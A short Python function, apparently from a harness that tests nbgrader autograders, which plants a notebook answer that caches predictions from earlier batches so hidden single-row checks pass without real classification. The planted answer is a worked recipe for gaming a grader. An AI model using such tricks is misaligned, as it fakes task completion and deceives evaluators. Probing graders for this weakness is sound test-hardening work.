    """An answer that cannot classify a single row remembers the rows of earlier batches and
    answers a single row from that memory: the hidden 'one row at a time' checks compare a
    row alone with the same row in the batch seen just before. Naive nbgrader: the memory
    lasts the whole kernel, the checks pass."""
    return set_answer(nb, "ex2-answer", "_seen = {}\n" + PREDICT.format(
        single="from the batches seen before", answer="_seen.get(test_feats[0].tobytes(), 0)",
        remember="_seen.update((row.tobytes(), int(p)) for row, p in zip(test_feats, pred))"))
